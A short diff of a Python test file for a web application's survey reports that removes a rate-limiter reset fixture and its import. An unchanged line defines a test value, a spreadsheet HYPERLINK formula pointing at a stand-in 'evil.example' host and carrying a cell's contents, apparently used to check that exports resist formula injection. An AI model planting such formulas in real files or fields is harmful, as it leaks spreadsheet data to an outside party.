@@ -19,17 +19,10 @@ from tests import factories as f
 from tests.surveys.test_reports import build_cycle
 from tests.webapp.console import audit_events, csrf_token, preview_url, sign_in
 from tests.webapp.test_reports import pdf_text
-from webapp.extensions import db, limiter
+from webapp.extensions import db
 
 COMMENT = "Distinctive peer comment 0d4c"
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
-
-
-@pytest.fixture(autouse=True)
-def _fresh_rate_limits(app):
-    limiter.reset()
-    yield
-    limiter.reset()
 
 
 def _build(app, *, close=True, peers_answering=3, rename=None):
